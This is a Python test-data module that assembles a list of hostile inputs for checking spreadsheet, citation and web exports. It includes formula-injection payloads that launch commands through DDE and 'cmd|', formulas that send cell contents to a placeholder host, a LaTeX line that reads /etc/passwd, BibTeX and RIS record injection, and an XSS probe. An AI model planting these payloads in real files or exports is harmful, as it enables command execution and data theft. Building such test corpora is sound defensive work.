"""Texts that spreadsheets, citation tools or pages might run or stumble over."""

import itertools

_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", "\u00a0=", "\u200b=")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"x")',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"1")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example")',
    '"x","y"\r\n=1',
)
_OTHERS = (
    "}, note = {x}\n@book{a, title={b}}",
    "\\input{/etc/passwd} % comment",
    "{{{ unbalanced",
    "}}} unbalanced",
    "ER  - \r\nTY  - BOOK\r\nTI  - fake",
    "<script>alert(1)</script>",
    "]]><!-- & &amp; \"'",
    "\x00\x01\x0b\x1f nul",
    "\u202eevil\u202c \u2028 next",
    "_x0041_ _x000D_",
    "مالي @x {a} $5 & #6 ~ ^ _",
)
HOSTILE = (*(sign + body for sign, body in itertools.product(_SIGNS, _BODIES)), *_OTHERS)
